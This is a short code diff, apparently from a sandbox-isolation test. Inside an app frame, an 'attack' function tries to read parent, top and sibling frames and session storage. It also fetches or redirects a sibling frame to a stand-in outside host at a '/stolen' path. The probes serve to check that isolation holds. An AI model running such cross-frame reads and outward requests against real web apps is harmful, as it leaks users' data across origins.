@@ -54,12 +54,17 @@ const BLOCKS = [
 /** Runs in the frame of the app. `target` is the origin of the console, `outside` of a server that the policy does not name. */
 function attack() {
   const reached = {};
+  const otherFrame = () => [parent.frames[0], parent.frames[1]].find((frame) => frame !== window);
   const attempts = {
     document: () => parent.document.title,
     top: () => top.document.title,
     key: () => parent.sessionStorage.length,
     ownStorage: () => sessionStorage.length,
-    frames: () => parent.frames[1].document.title,
+    otherApp: () => otherFrame().document.title,
+    otherAppMoved: () => {
+      otherFrame().location = "http://127.0.0.1:OUTSIDE/stolen";
+      return "assigned";
+    },
     console: () => fetch("/console/snapshot").then((answer) => answer.status),
     page: () => fetch("/").then((answer) => answer.status),
     outside: () => fetch("http://127.0.0.1:OUTSIDE/stolen").then((answer) => answer.status),
